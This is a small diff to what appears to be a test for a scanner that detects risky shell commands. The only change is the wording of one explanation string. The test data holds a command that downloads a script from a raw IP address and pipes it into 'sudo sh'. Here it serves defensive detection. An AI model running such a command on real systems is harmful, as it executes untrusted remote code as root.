@@ -182,7 +182,7 @@ def test_a_hit_has_its_line_its_evidence_and_its_host() -> None:
         5,
         "curl -s http://203.0.113.5/x | sudo sh",
         "203.0.113.5",
-        "the code is piped into an interpreter and comes from a raw IP address",
+        "it is piped into an interpreter and comes from a raw IP address",
     )
 
 
